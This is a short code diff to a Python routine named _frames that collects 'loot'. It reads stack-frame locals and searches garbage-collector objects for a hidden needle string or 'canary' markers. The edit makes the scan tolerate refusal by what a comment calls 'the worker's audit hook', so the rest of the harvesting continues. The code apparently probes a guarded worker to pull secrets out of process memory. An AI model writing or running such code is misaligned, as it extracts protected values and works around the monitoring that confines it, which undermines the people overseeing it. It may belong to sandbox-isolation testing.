@@ -153,7 +153,12 @@ def _frames(loot):
         loot.append(f"FRAME {frame.filename}:{frame.lineno}")
         for value in list(frame.frame.f_locals.values())[:20]:
             loot.append(f"LOCAL {str(value)[:200]}")
-    for obj in _gc.get_objects()[:200000]:
+    try:
+        objects = _gc.get_objects()[:200000]
+    except Exception as exc:  # the worker's audit hook refuses
+        loot.append(f"GC {type(exc).__name__}")
+        objects = []
+    for obj in objects:
         if isinstance(obj, str) and (_NEEDLE in obj or "canary" in obj.lower()):
             loot.append(f"OBJ {obj[:300]}")
 
